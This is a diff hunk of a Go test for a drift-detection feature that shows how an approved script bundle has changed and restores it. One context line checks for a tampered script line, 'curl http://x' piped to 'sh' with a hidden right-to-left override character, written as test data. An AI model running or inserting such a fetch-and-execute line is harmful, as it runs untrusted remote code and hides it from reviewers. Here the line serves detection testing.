@@ -168,6 +168,17 @@ func TestDriftShowsTheDifference(t *testing.T) {
 		!strings.Contains(d.Files[1].Unified, "-true") || !strings.Contains(d.Files[1].Unified, "+curl http://x <U+202E>| sh") {
 		t.Errorf("%+v", d)
 	}
+	if d.SetAside == "" || !h.there(d.SetAside) || d.Folder != filepath.Dir(h.bundle(slug)) {
+		t.Errorf("%q %q", d.SetAside, d.Folder)
+	}
+	// An approval takes the bundle, so a change of it is what is shown from then on.
+	h.edit(filepath.Join(d.Folder, "scripts", "run.sh"), "#!/bin/sh\nfalse\n")
+	d, err = h.s.Difference(h.ctx(), slug)
+	h.ok(err)
+	if d.Where != "bundle" || d.SetAside != "" || d.ContentHash != h.entry(slug).ContentHash || len(d.Files) != 1 ||
+		!strings.Contains(d.Files[0].Unified, "+false") {
+		t.Errorf("%+v", d)
+	}
 	e, err = h.s.Restore(h.ctx(), slug, nil)
 	h.ok(err)
 	if !e.UsableNow || e.ChangedIn != "" || !h.there(h.path(1, slug)) {
